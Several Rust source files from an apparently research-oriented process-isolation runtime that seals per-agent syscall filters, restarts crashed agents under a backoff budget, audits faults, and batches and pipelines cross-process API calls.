                phase: SpanPhase::Restart,
                seq: self.seq,
                api: None,
                partition: Some(partition),
                thread,
                start_ns: restart_t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// Reaps a dead agent process: audited revocation of the shm views
    /// it still holds, then the kernel frees its address space and
    /// purges its grant/map entries. A still-running target (injected
    /// restarts, budget-denied teardown) exits cleanly first.
    fn reap_agent(&mut self, old_pid: Pid) {
        self.revoke_views_of(old_pid, self.seq);
        // Logged supervisor exit: a still-running target leaves an
        // auditable `ForceExit` commit record instead of a silent
        // process-table mutation.
        self.kernel.force_exit(old_pid, 0);
        let _ = self.kernel.reap(old_pid);
    }

    /// Drops a restore-orphaned object everywhere the runtime tracks it:
    /// store, temporal-protection machines, pins, and hazards. Later
    /// calls that reference it fail fast with `StateLost`.
    fn quarantine_object(&mut self, id: ObjectId) {
        self.objects.destroy(id);
        for sm in self.states.values_mut() {
            sm.forget(id);
        }
        self.pinned.remove(&id);
        self.last_touch.remove(&id);
        self.shm_index.remove(&id);
        if let Some(owner) = self.owner_of.remove(&id) {
            if let Some(set) = self.shm_owned.get_mut(&owner) {
                set.remove(&id);
            }
        }
        self.shared_objs.remove(&id);
    }

    /// Spends one token from the partition's restart budget. Returns
    /// `false` — degrading the partition — when the bucket is empty or
    /// the partition was already degraded. With no budget configured
    /// every restart is allowed (the pre-supervisor behavior).
    ///
    /// Tokens refill at `refill_ns` of virtual time apiece (capped at
    /// `burst`); a full bucket resets the consecutive-restart streak.
    /// Each granted restart charges `backoff_ns << min(streak-1, 10)` of
    /// exponential backoff, so even within budget a crash loop slows
    /// down instead of hammering the respawn path.
    fn take_restart_token(&mut self, partition: PartitionId) -> bool {
        if self.is_degraded(partition) {
            return false;
        }
        let Some(budget) = self.policy.restart_budget else {
            return true;
        };
        let now = self.kernel.now_ns();
        let mut g = *self.governors.entry(partition).or_insert(RestartGovernor {
            tokens: budget.burst,
            last_refill_ns: now,
            streak: 0,
            degraded: false,
        });
        if let Some(intervals) = now
            .saturating_sub(g.last_refill_ns)
            .checked_div(budget.refill_ns)
        {
            let minted = intervals.min(u64::from(budget.burst)) as u32;
            if minted > 0 {
                g.tokens = g.tokens.saturating_add(minted).min(budget.burst);
                g.last_refill_ns = now;
            }
        }
        if g.tokens == budget.burst {
            g.streak = 0;
        }
        let granted = if g.tokens == 0 {
            g.degraded = true;
            if self.tracer.enabled() {
                self.tracer.record_audit(AuditRecord::RestartDenied {
                    at_ns: now,
                    partition,
                    restarts: self.stats.restarts,
                    burst: budget.burst,
                });
            }
            false
        } else {
            g.tokens -= 1;
            g.streak += 1;
            let backoff = budget.backoff_ns << u64::from(g.streak - 1).min(10);
            self.kernel.charge_time(backoff);
            true
        };
        self.governors.insert(partition, g);
        granted
    }

    /// Classifies a just-crashed agent's fault into an audit record:
    /// a denied syscall becomes a [`AuditRecord::FilterKill`], anything
    /// memory-related a [`AuditRecord::AccessDenied`] with the faulting
    /// address resolved back to the protected object it hit, when any.
    pub(super) fn audit_agent_crash(
        &mut self,
        partition: PartitionId,
        seq: u64,
        api: ApiId,
        agent_pid: Pid,
        thread: ThreadId,
    ) {
        let Ok(process) = self.kernel.process(agent_pid) else {
            return;
        };
        let ProcessState::Crashed(fault) = &process.state else {
            return;
        };
        let fault = fault.clone();
        let at_ns = self.kernel.now_ns();
        let state = self.state_of(thread);
        match fault.kind {
            FaultKind::SyscallDenied(no) => {
                self.tracer.note_filter_kill(seq);
                self.tracer.record_audit(AuditRecord::FilterKill {
                    at_ns,
                    partition,
                    api,
                    state,
                    syscall: format!("{no:?}"),
                });
            }
            kind => {
                let addr = fault.addr.map(|a| a.0);
                let object = addr.and_then(|a| {
                    self.objects
                        .iter()
                        .find(|m| {
                            m.buffer
                                .is_some_and(|(base, len)| a >= base.0 && a < base.0 + len.max(1))
                        })
                        .map(|m| m.id)
                });
                self.tracer.record_audit(AuditRecord::AccessDenied {
                    at_ns,
                    partition,
                    api,
                    state,
                    object,
                    addr,
                    fault: format!("{kind:?}"),
                });
            }
        }
    }
}
