//! Agent lifecycle: sealing the per-agent syscall filter, stateful
//! snapshots, crash restarts, and crash auditing. Everything here is
//! about the agent *process*, not the calls flowing through it.

use super::{Agent, Runtime, SnapshotEntry, ThreadId};
use crate::partition::PartitionId;
use crate::policy::SandboxLevel;
use crate::syscall_policy::build_filter;
use crate::trace::{AuditRecord, SpanEvent, SpanPhase};
use freepart_frameworks::api::ApiId;
use freepart_frameworks::{ObjectId, ObjectKind};
use freepart_simos::{FaultKind, Perms, Pid, ProcessState};
use std::collections::BTreeSet;

impl Runtime {
    /// Installs and locks the partition's syscall filter (§4.4.1): the
    /// allowlist is derived from the APIs routed to this agent, then
    /// sealed with no-new-privs so not even the agent can widen it.
    pub(super) fn seal_agent(&mut self, partition: PartitionId) {
        let agent = self.agents.get_mut(&partition).expect("agent exists");
        let pid = agent.pid;
        let apis = agent.apis.clone();
        let Ok(process) = self.kernel.process(pid) else {
            return;
        };
        let mut filter = match self.policy.sandbox {
            SandboxLevel::None => return,
            SandboxLevel::PerAgent => build_filter(&self.reg, &self.profile, &apis, process),
            SandboxLevel::CoarseUnion => {
                // Whole-library sandbox: everything the library could
                // ever need, including mprotect for lazy loading — the
                // hole code-rewriting exploits walk through.
                let all: BTreeSet<ApiId> = self.reg.iter().map(|s| s.id).collect();
                let mut f = build_filter(&self.reg, &self.profile, &all, process);
                f.allow(freepart_simos::SyscallNo::Mprotect);
                f
            }
        };
        filter.lock();
        if self.kernel.install_filter(pid, filter).is_ok() {
            // PR_SET_NO_NEW_PRIVS: the configuration is now immutable
            // even from inside the process.
            if let Ok(p) = self.kernel.process_mut(pid) {
                p.no_new_privs = true;
            }
            self.agents
                .get_mut(&partition)
                .expect("agent exists")
                .sealed = true;
        }
    }

    /// Records restorable copies of the partition's stateful objects
    /// (captures, models, classifiers) for use after a crash restart.
    pub(super) fn take_snapshot(&mut self, partition: PartitionId) {
        let pid = self.agents[&partition].pid;
        let stateful: Vec<ObjectId> = self
            .objects
            .iter()
            .filter(|m| {
                m.home == pid
                    && matches!(
                        m.kind,
                        ObjectKind::Capture { .. }
                            | ObjectKind::Model { .. }
                            | ObjectKind::Classifier { .. }
                    )
            })
            .map(|m| m.id)
            .collect();
        let mut entries = Vec::new();
        for id in stateful {
            let meta = self.objects.meta(id).expect("listed above").clone();
            let bytes = self
                .objects
                .read_bytes(&mut self.kernel, id)
                .unwrap_or_default();
            entries.push(SnapshotEntry {
                object: id,
                kind: meta.kind,
                label: meta.label,
                bytes,
            });
        }
        self.snapshots.insert(partition, entries);
    }

    /// Respawns a crashed agent: new process, new code page, channel
    /// rebound, stateful snapshots restored (with temporal protection
    /// re-applied to them), the completion journal carried over, and —
    /// if the old process was already sealed — the syscall filter
    /// re-sealed immediately so the sandbox never reopens in the respawn
    /// window. Crashed-process variable values are deliberately **not**
    /// restored (§6).
    pub fn restart_agent(&mut self, partition: PartitionId) {
        self.restart_agent_on(partition, ThreadId::MAIN);
    }

    /// [`Runtime::restart_agent`] attributed to the application thread
    /// whose call triggered the restart (distinct trace rows per thread).
    pub(super) fn restart_agent_on(&mut self, partition: PartitionId, thread: ThreadId) {
        let tracing = self.tracer.enabled();
        let restart_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let Some(agent) = self.agents.remove(&partition) else {
            return;
        };
        let chan = agent.chan;
        let was_sealed = agent.sealed;
        let new_pid = self.kernel.spawn(&format!("agent:{partition}+"));
        let code_page = self
            .kernel
            .alloc(new_pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh agent allocates");
        self.kernel
            .rebind_channel(chan, new_pid)
            .expect("channel exists");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid: new_pid,
                chan,
                code_page,
                apis: agent.apis,
                sealed: false,
                calls: agent.calls,
                // The journal of completed calls lives with the rebound
                // channel, not the dead process: the respawned agent can
                // still answer re-delivered requests it already executed.
                cache: agent.cache,
            },
        );
        // Restore snapshotted stateful objects into the new process, then
        // re-apply temporal protection — the restore writes into fresh RW
        // pages, and restart must not leave protected objects writable.
        if let Some(entries) = self.snapshots.get(&partition).cloned() {
            for entry in entries {
                if let Ok(addr) =
                    self.kernel
                        .alloc(new_pid, entry.bytes.len().max(1) as u64, Perms::RW)
                {
                    if self.kernel.mem_write(new_pid, addr, &entry.bytes).is_ok() {
                        if let Some(meta) = self.objects.meta_mut(entry.object) {
                            meta.home = new_pid;
                            meta.buffer = Some((addr, entry.bytes.len() as u64));
                            meta.kind = entry.kind.clone();
                            meta.label = entry.label.clone();
                        }
                        self.reapply_all(entry.object);
                    }
                }
            }
        }
        if was_sealed && self.policy.sandbox != SandboxLevel::None {
            self.seal_agent(partition);
        }
        self.stats.restarts += 1;
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Restart,
                seq: self.seq,
                api: None,
                partition: Some(partition),
                thread,
                start_ns: restart_t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// Classifies a just-crashed agent's fault into an audit record:
    /// a denied syscall becomes a [`AuditRecord::FilterKill`], anything
    /// memory-related a [`AuditRecord::AccessDenied`] with the faulting
    /// address resolved back to the protected object it hit, when any.
    pub(super) fn audit_agent_crash(
        &mut self,
        partition: PartitionId,
        seq: u64,
        api: ApiId,
        agent_pid: Pid,
        thread: ThreadId,
    ) {
        let Ok(process) = self.kernel.process(agent_pid) else {
            return;
        };
        let ProcessState::Crashed(fault) = &process.state else {
            return;
        };
        let fault = fault.clone();
        let at_ns = self.kernel.now_ns();
        let state = self.state_of(thread);
        match fault.kind {
            FaultKind::SyscallDenied(no) => {
                self.tracer.note_filter_kill(seq);
                self.tracer.record_audit(AuditRecord::FilterKill {
                    at_ns,
                    partition,
                    api,
                    state,
                    syscall: format!("{no:?}"),
                });
            }
            kind => {
                let addr = fault.addr.map(|a| a.0);
                let object = addr.and_then(|a| {
                    self.objects
                        .iter()
                        .find(|m| {
                            m.buffer
                                .is_some_and(|(base, len)| a >= base.0 && a < base.0 + len.max(1))
                        })
                        .map(|m| m.id)
                });
                self.tracer.record_audit(AuditRecord::AccessDenied {
                    at_ns,
                    partition,
                    api,
                    state,
                    object,
                    addr,
                    fault: format!("{kind:?}"),
                });
            }
        }
    }
}
