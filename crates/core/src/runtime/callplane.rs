//! The call plane: the synchronous and asynchronous hooked-call
//! surface, submission (with the state-transition drain barrier and the
//! temporal-grant sweep), bounded pipelined windows, and retirement.

use super::{CallError, CallHandle, Runtime, ThreadId};
use crate::partition::PartitionId;
use crate::policy::RestartPolicy;
use crate::rpc::{BatchRequest, BatchResponse};
use crate::state::FrameworkState;
use crate::trace::{AuditRecord, CallOutcome, FlushReason, SpanEvent, SpanPhase};
use freepart_frameworks::api::ApiId;
use freepart_frameworks::{ObjectId, Value};
use std::collections::BTreeSet;

/// A call that has executed agent-side but whose response the host has
/// not consumed yet. The simulator executes calls eagerly at submission
/// (so results and side effects are identical to the synchronous path);
/// the *overlap* lives in virtual time — the host's timeline only
/// merges past the agent's at retirement.
#[derive(Debug)]
pub(super) struct InFlight {
    pub(super) api: ApiId,
    pub(super) thread: ThreadId,
    pub(super) partition: PartitionId,
    pub(super) outcome: Result<Value, CallError>,
    /// A response frame is sitting in the ring for the host to consume.
    pub(super) has_response: bool,
    /// Journal-replay calls do their bookkeeping at submission.
    pub(super) booked: bool,
    /// Objects this call consumed or produced (pinned-return set).
    pub(super) touched: Vec<ObjectId>,
    /// Agent-timeline completion, for hazard merges of later consumers.
    pub(super) complete_ns: u64,
    /// Member of a batched IPC frame: the journal is acked at retirement
    /// even though only the batch's first member carries the (single)
    /// response frame.
    pub(super) batch: bool,
    pub(super) call_t0: u64,
    pub(super) resp_t0: u64,
    pub(super) resp_len: u64,
}

/// What one delivery attempt hands back to the submit path.
pub(super) struct Dispatched {
    pub(super) value: Value,
    pub(super) has_response: bool,
    pub(super) booked: bool,
    pub(super) touched: Vec<ObjectId>,
    pub(super) complete_ns: u64,
    pub(super) resp_t0: u64,
    pub(super) resp_len: u64,
    /// In batched mode: the encoded request frame, buffered for the next
    /// batch flush instead of having been sent individually.
    pub(super) req_frame: Option<Vec<u8>>,
    /// In batched mode: the encoded response frame, ditto.
    pub(super) resp_frame: Option<Vec<u8>>,
}

/// Consecutive same-partition calls whose frames are coalesced into one
/// `BatchRequest` / `BatchResponse` IPC frame pair at flush time. The
/// member calls have already executed eagerly agent-side (and journalled
/// their seqs individually) — only the *frame accounting* is deferred,
/// so results stay byte-identical to the unbatched runtime while the
/// per-frame send/recv latency is paid once per batch.
#[derive(Debug)]
pub(super) struct PendingBatch {
    pub(super) partition: PartitionId,
    pub(super) thread: ThreadId,
    /// Member seqs, in submission order.
    pub(super) members: Vec<u64>,
    /// Buffered member request frames.
    pub(super) req_frames: Vec<Vec<u8>>,
    /// Buffered member response frames.
    pub(super) resp_frames: Vec<Vec<u8>>,
    /// Objects any member consumed, produced, or defined — a host
    /// dereference of one of these is a hazard that flushes the batch.
    pub(super) touched: BTreeSet<ObjectId>,
    /// First member's hook-entry time (tracing; the `batch` span start).
    pub(super) t0: u64,
}

impl Runtime {
    // ------------------------------------------------------------------
    // The hooked call path
    // ------------------------------------------------------------------

    /// Calls a framework API by qualified name.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, CallError> {
        self.call_on(ThreadId::MAIN, name, args)
    }

    /// Calls a framework API by name on a specific application thread:
    /// the call routes to *that thread's* agent set and drives that
    /// thread's framework-state machine.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_on(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        self.call_id_on(thread, api, args)
    }

    /// Calls a framework API by id on the main thread.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_id(&mut self, api: ApiId, args: &[Value]) -> Result<Value, CallError> {
        self.call_id_on(ThreadId::MAIN, api, args)
    }

    /// Calls a framework API by id on a specific thread. Exactly
    /// equivalent to [`Runtime::call_async_id_on`] followed by an
    /// immediate [`Runtime::wait`] — the async machinery adds zero
    /// virtual nanoseconds to the synchronous path.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_id_on(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let handle = self.submit(thread, api, args, &[])?;
        self.wait(handle)
    }

    // ------------------------------------------------------------------
    // The asynchronous call interface
    // ------------------------------------------------------------------

    /// Submits a hooked call on the main thread without waiting for its
    /// response (see [`Runtime::call_async_with`]).
    ///
    /// # Errors
    ///
    /// See [`CallError`]. Submission-time errors (unknown API/thread)
    /// surface here; execution errors surface from [`Runtime::wait`].
    pub fn call_async(&mut self, name: &str, args: &[Value]) -> Result<CallHandle, CallError> {
        self.call_async_on(ThreadId::MAIN, name, args)
    }

    /// Submits a hooked call on a specific thread without waiting.
    ///
    /// # Errors
    ///
    /// See [`Runtime::call_async`].
    pub fn call_async_on(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
    ) -> Result<CallHandle, CallError> {
        self.call_async_with(thread, name, args, &[])
    }

    /// Submits a hooked call with explicit dependencies: the call's
    /// agent timeline is ordered after every `deps` handle's completion
    /// (for dependencies the object table cannot see, e.g. a read of a
    /// file an earlier in-flight call writes).
    ///
    /// The call executes (agent-side) at submission, so results are
    /// byte-identical to the synchronous path; only virtual time
    /// overlaps. The response is consumed by [`Runtime::wait`].
    ///
    /// # Errors
    ///
    /// See [`Runtime::call_async`].
    pub fn call_async_with(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<CallHandle, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        self.submit(thread, api, args, deps)
    }

    /// Submits a hooked call by API id (see [`Runtime::call_async_with`]).
    ///
    /// # Errors
    ///
    /// See [`Runtime::call_async`].
    pub fn call_async_id_on(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<CallHandle, CallError> {
        self.submit(thread, api, args, deps)
    }

    /// Retires a call: consumes its response frame (merging the host's
    /// timeline past the agent's completion), runs host-side
    /// bookkeeping, and returns the result. Responses drain each
    /// partition's ring in FIFO order, so waiting on a call first
    /// retires every older in-flight call on the same partition.
    /// Waiting again on an already-retired handle returns the cached
    /// outcome without charging time.
    ///
    /// # Errors
    ///
    /// The call's execution error, if any (see [`CallError`]).
    pub fn wait(&mut self, handle: CallHandle) -> Result<Value, CallError> {
        if !self.inflight.contains_key(&handle.0) {
            return match self.retired.get(&handle.0) {
                Some((outcome, _)) => outcome.clone(),
                None => Err(CallError::UnknownApi(format!(
                    "call #{} was never submitted",
                    handle.0
                ))),
            };
        }
        let partition = self.inflight[&handle.0].partition;
        loop {
            let front = self.inflight_by_partition[&partition][0];
            self.retire_one(front);
            if front == handle.0 {
                break;
            }
        }
        self.retired[&handle.0].0.clone()
    }

    /// Peeks at an in-flight (or retired) call's result without
    /// retiring it — no response is consumed and no time is charged.
    ///
    /// # Errors
    ///
    /// The call's execution error, or `UnknownApi` for a handle that
    /// was never submitted.
    pub fn promise(&self, handle: CallHandle) -> Result<Value, CallError> {
        if let Some(inf) = self.inflight.get(&handle.0) {
            return inf.outcome.clone();
        }
        match self.retired.get(&handle.0) {
            Some((outcome, _)) => outcome.clone(),
            None => Err(CallError::UnknownApi(format!(
                "call #{} was never submitted",
                handle.0
            ))),
        }
    }

    /// Retires every in-flight call, oldest first. The security
    /// barriers call this: nothing may be in flight across a
    /// framework-state transition's mprotect storm.
    pub fn drain_inflight(&mut self) {
        while let Some((&seq, _)) = self.inflight.iter().next() {
            self.retire_one(seq);
        }
    }

    /// Pooled per-tenant drain barrier: retires every in-flight call of
    /// `thread`, plus whatever older calls sit ahead of them in their
    /// pools' FIFO rings. Other tenants' younger calls stay in flight —
    /// the transition's mprotect storm cannot touch their objects (the
    /// capability gate keeps namespaces disjoint), so per-tenant
    /// transition barriers compose without a global quiesce.
    pub(super) fn drain_thread_inflight(&mut self, thread: ThreadId) {
        let parts: Vec<PartitionId> = self
            .inflight_by_partition
            .iter()
            .filter(|(_, q)| {
                q.iter()
                    .any(|s| self.inflight.get(s).is_some_and(|i| i.thread == thread))
            })
            .map(|(p, _)| *p)
            .collect();
        for p in parts {
            while let Some(q) = self.inflight_by_partition.get(&p) {
                let has_ours = q
                    .iter()
                    .any(|s| self.inflight.get(s).is_some_and(|i| i.thread == thread));
                if !has_ours {
                    break;
                }
                let front = q[0];
                self.retire_one(front);
            }
        }
    }

    /// Number of submitted-but-unretired calls.
    pub fn in_flight(&self) -> usize {
        self.inflight.len()
    }

    /// Switches the kernel to per-process virtual timelines so
    /// asynchronous calls overlap in virtual time. Synchronous calls
    /// keep working (submit + immediate wait) and sync-only runs are
    /// unaffected — this only changes how *overlapping* calls are
    /// accounted. Host activity outside calls charges the host's
    /// timeline; read the result off [`Kernel::makespan_ns`].
    ///
    /// [`Kernel::makespan_ns`]: freepart_simos::Kernel::makespan_ns
    pub fn enable_pipelining(&mut self) {
        self.pipelining = true;
        self.kernel.enable_per_process_time();
        self.kernel.set_time_context(Some(self.host));
    }

    /// Whether per-process timelines are active.
    pub fn pipelining_enabled(&self) -> bool {
        self.pipelining
    }

    /// Bounds how many calls may be in flight per partition (min 1);
    /// submission force-retires the oldest beyond the window.
    pub fn set_pipeline_window(&mut self, window: usize) {
        self.pipeline_window = window.max(1);
    }

    /// The per-partition in-flight window.
    pub fn pipeline_window(&self) -> usize {
        self.pipeline_window
    }

    /// Completion time (agent timeline) a dependency handle resolves to.
    pub(super) fn ready_ns(&self, handle: CallHandle) -> u64 {
        self.inflight
            .get(&handle.0)
            .map(|i| i.complete_ns)
            .or_else(|| self.retired.get(&handle.0).map(|(_, ns)| *ns))
            .unwrap_or(0)
    }

    /// Submission: security checks, state-machine barrier + transition,
    /// window enforcement, then one (crash-retried) delivery attempt.
    /// The call is fully executed agent-side when this returns; only
    /// the response leg and host bookkeeping remain for `wait`.
    fn submit(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<CallHandle, CallError> {
        if !self.states.contains_key(&thread) {
            return Err(CallError::UnknownApi(format!("{thread} not spawned")));
        }
        let api_type = self.report.type_of(api);
        let neutral = self.reg.spec(api).type_neutral && self.policy.colocate_type_neutral;

        // Security barrier: a framework-state transition runs an
        // mprotect storm over the previous state's objects — no call may
        // be in flight across it, on *any* partition. The open batch
        // flushes first (no batch may straddle a transition record),
        // then everything in flight drains before the transition is
        // observed below.
        if !neutral && self.states[&thread].would_transition(api_type) {
            self.flush_batch(FlushReason::Transition);
            if !self.inflight.is_empty() {
                if self.pooled() {
                    // Pooled mode: the mprotect storm touches only this
                    // tenant's (and shared) objects, so only this
                    // tenant's calls must drain. Each pool's window
                    // bounds the in-flight queue, so the partial drain
                    // is O(pools × window) — independent of how many
                    // tenants share the pools.
                    self.drain_thread_inflight(thread);
                } else {
                    self.drain_inflight();
                }
            }
        }

        // One sequence number per *logical* call: a crash-retry re-sends
        // the same seq, so an agent that completed the call just before
        // dying answers the retry from its completion journal instead of
        // executing the side effects a second time.
        self.seq += 1;
        let seq = self.seq;

        // Hook entry: the Call span opens here and the per-call byte
        // accumulation resets.
        let tracing = self.tracer.enabled();
        let call_t0 = if tracing {
            self.tracer.begin_call(seq);
            self.kernel.now_ns()
        } else {
            0
        };

        // Type-neutral APIs run in the calling context's agent and do not
        // move the framework state (§4.2).
        let base_partition = if neutral {
            match self.state_of(thread) {
                FrameworkState::InType(t) => self.policy.plan.partition_of_type(t),
                FrameworkState::Initialization => self.partition_of(api),
            }
        } else {
            // Temporal protection fires on the state change, *before* the
            // API executes (Fig. 3). Snapshot the page counter and the
            // protected set around it so the audit record carries the
            // exact protection delta this transition applied.
            let from = self.state_of(thread);
            let before = if tracing {
                Some((
                    self.kernel.now_ns(),
                    self.kernel.metrics().protected_pages,
                    self.states[&thread].protected().len(),
                ))
            } else {
                None
            };
            // Flight-recorder correlation: the commit-log slice covering
            // this transition's mprotect storm + temporal-grant sweep.
            let commits0 = self.kernel.commit_len();
            let sm = self.states.get_mut(&thread).expect("checked");
            let newly = sm.observe(api_type, &mut self.kernel, &self.objects).ok();
            let to = self.state_of(thread);
            if to != from {
                // Temporal grants: shared-memory views issued to agents
                // of the state being left are torn down inside the same
                // barrier as the mprotect storm — the in-flight queue is
                // already drained, so no call can straddle the revokes.
                // Pooled mode sweeps only the transitioning tenant's
                // (plus shared) segments: O(1) in the tenant count.
                if self.pooled() {
                    self.revoke_out_of_state_grants_for(thread, seq);
                } else {
                    self.revoke_out_of_state_grants(seq);
                }
                // Adaptive decision point: the system is quiescent here
                // (batch flushed, in-flight retired into the registry,
                // grants revoked), so the controller may re-pick knobs
                // for the configuration epoch this call opens.
                self.adaptive_decision_point(seq);
            }
            if let Some((t0, pages0, prot0)) = before {
                if to != from {
                    let now = self.kernel.now_ns();
                    let pages = self.kernel.metrics().protected_pages - pages0;
                    let prot1 = self.states[&thread].protected().len();
                    let locked = newly.unwrap_or(0);
                    let unlocked = (prot0 + locked).saturating_sub(prot1);
                    let commits = (commits0, self.kernel.commit_len());
                    self.tracer.record_audit_with_commits(
                        AuditRecord::StateTransition {
                            at_ns: t0,
                            thread,
                            seq,
                            from,
                            to,
                            objects_locked: locked,
                            objects_unlocked: unlocked,
                            pages,
                        },
                        Some(commits),
                    );
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::Transition,
                        seq,
                        api: Some(api),
                        partition: None,
                        thread,
                        start_ns: t0,
                        end_ns: now,
                        bytes: 0,
                    });
                }
            }
            self.partition_of(api)
        };
        let partition = self.route_partition(thread, base_partition);

        // A call routed to a different partition than the open batch's
        // closes the batch: its frame goes out before this call runs.
        if self
            .batch
            .as_ref()
            .is_some_and(|b| b.partition != partition)
        {
            self.flush_batch(FlushReason::PartitionSwitch);
        }

        // Bounded in-flight window per partition. The open batch counts
        // as ONE unit however many members it holds (it will become one
        // frame); its members cannot be retired until it flushes, so the
        // loop stops rather than force-flush mid-accumulation.
        while let Some(q) = self.inflight_by_partition.get(&partition) {
            let batch_members = self
                .batch
                .as_ref()
                .filter(|b| b.partition == partition)
                .map(|b| b.members.len())
                .unwrap_or(0);
            let units = q.len() - batch_members + usize::from(batch_members > 0);
            if units < self.pipeline_window_for(partition) {
                break;
            }
            let oldest = q[0];
            if self
                .batch
                .as_ref()
                .is_some_and(|b| b.members.first() == Some(&oldest))
            {
                break;
            }
            self.retire_one(oldest);
        }

        let first_attempt = self.dispatch_execute(thread, partition, seq, api, args, deps);
        let attempt = match first_attempt {
            Err(CallError::AgentCrashed(p)) if self.policy.restart == RestartPolicy::Restart => {
                // At-least-once re-delivery of the *same* request; the
                // completion journal upgrades it to exactly-once when the
                // crash happened after execution.
                if self.pipelining {
                    self.kernel.set_time_context(Some(self.host));
                }
                self.restart_agent_on(p, thread);
                self.dispatch_execute(thread, p, seq, api, args, deps)
            }
            other => other,
        };
        if self.pipelining {
            self.kernel.set_time_context(Some(self.host));
        }
        let inf = match attempt {
            Ok(mut d) => {
                // Batched mode: the member's frames were buffered by
                // dispatch instead of sent; append them to the open batch
                // (creating one on the first member). Replays and crashed
                // attempts carry no frames and never join a batch.
                let frames = d.req_frame.take().zip(d.resp_frame.take());
                let in_batch = frames.is_some();
                if let Some((req_frame, resp_frame)) = frames {
                    let b = self.batch.get_or_insert_with(|| PendingBatch {
                        partition,
                        thread,
                        members: Vec::new(),
                        req_frames: Vec::new(),
                        resp_frames: Vec::new(),
                        touched: BTreeSet::new(),
                        t0: call_t0,
                    });
                    debug_assert_eq!(b.partition, partition, "switch flushes first");
                    b.members.push(seq);
                    b.req_frames.push(req_frame);
                    b.resp_frames.push(resp_frame);
                    b.touched.extend(d.touched.iter().copied());
                }
                InFlight {
                    api,
                    thread,
                    partition,
                    outcome: Ok(d.value),
                    has_response: d.has_response,
                    booked: d.booked,
                    touched: d.touched,
                    complete_ns: d.complete_ns,
                    batch: in_batch,
                    call_t0,
                    resp_t0: d.resp_t0,
                    resp_len: d.resp_len,
                }
            }
            Err(e) => InFlight {
                api,
                thread,
                partition,
                outcome: Err(e),
                has_response: false,
                booked: false,
                touched: Vec::new(),
                complete_ns: self.kernel.now_ns(),
                batch: false,
                call_t0,
                resp_t0: 0,
                resp_len: 0,
            },
        };
        self.inflight.insert(seq, inf);
        self.inflight_by_partition
            .entry(partition)
            .or_default()
            .push_back(seq);
        // Window-full flush: the batch reached the partition's window.
        if let (Some(window), Some(b)) = (self.batch_window_for(partition), self.batch.as_ref()) {
            if b.members.len() >= window {
                self.flush_batch(FlushReason::WindowFull);
            }
        }
        Ok(CallHandle(seq))
    }

    /// Closes the open batch, if any: one `BatchRequest` frame goes
    /// host→agent and one `BatchResponse` frame agent→host — a single
    /// send/recv latency pair however many member calls the batch holds.
    /// The batch's *first* member inherits the response frame (retiring
    /// it consumes the frame and merges the host timeline); the others
    /// ride along and only ack their journal entries at retirement.
    pub(super) fn flush_batch(&mut self, reason: FlushReason) {
        let Some(b) = self.batch.take() else {
            return;
        };
        let n = b.members.len();
        debug_assert!(n > 0, "batches are created non-empty");
        self.kernel.note_calls_batched(n as u64);
        let tracing = self.tracer.enabled();
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.note_batch_flush(now, b.thread, reason, n);
        }
        // One frame each way — skipped entirely if the agent died (its
        // members' outcomes were computed eagerly; retirement charges
        // nothing for a dead agent, exactly like the unbatched path).
        if let Some(agent) = self.agents.get(&b.partition) {
            let (agent_pid, chan) = (agent.pid, agent.chan);
            if self.kernel.is_running(agent_pid) {
                let breq = BatchRequest {
                    members: b.req_frames,
                }
                .encode();
                // `ipc_send` charges the host's timeline and `ipc_recv`
                // the agent's (with the happens-before merge under
                // per-process time) — no time-context switch needed.
                let send_ok = self.kernel.ipc_send(self.host, chan, &breq).is_ok();
                if send_ok {
                    let _ = self.kernel.ipc_recv(agent_pid, chan);
                }
                let resp_t0 = if tracing { self.kernel.now_ns() } else { 0 };
                let bresp = BatchResponse {
                    members: b.resp_frames,
                }
                .encode();
                let resp_len = bresp.len() as u64;
                if send_ok && self.kernel.ipc_send(agent_pid, chan, &bresp).is_ok() {
                    if let Some(inf) = b.members.first().and_then(|s| self.inflight.get_mut(s)) {
                        inf.has_response = true;
                        inf.resp_t0 = resp_t0;
                        inf.resp_len = resp_len;
                    }
                }
            }
        }
        if tracing {
            if let Some(&last) = b.members.last() {
                self.batch_spans.insert(last, (b.t0, n));
            }
        }
    }

    /// Hazard hook for host dereferences (`fetch_bytes`): reading an
    /// object an open batch's member touched forces the frames out
    /// first, so the host's timeline ordering matches the unbatched
    /// plane.
    pub(super) fn flush_batch_if_touched(&mut self, id: ObjectId) {
        if self.batch.as_ref().is_some_and(|b| b.touched.contains(&id)) {
            self.flush_batch(FlushReason::Hazard);
        }
    }

    /// Retirement: the host consumes the response frame and finishes the
    /// call's host-side bookkeeping. `seq` must be the oldest in-flight
    /// call on its partition (ring FIFO).
    fn retire_one(&mut self, seq: u64) {
        // A host `wait` (or drain) reaching into the open batch is a
        // hazard: the frames must go out before the response can be
        // consumed.
        if self
            .batch
            .as_ref()
            .is_some_and(|b| b.members.contains(&seq))
        {
            self.flush_batch(FlushReason::Hazard);
        }
        let Some(inf) = self.inflight.remove(&seq) else {
            return;
        };
        let partition = inf.partition;
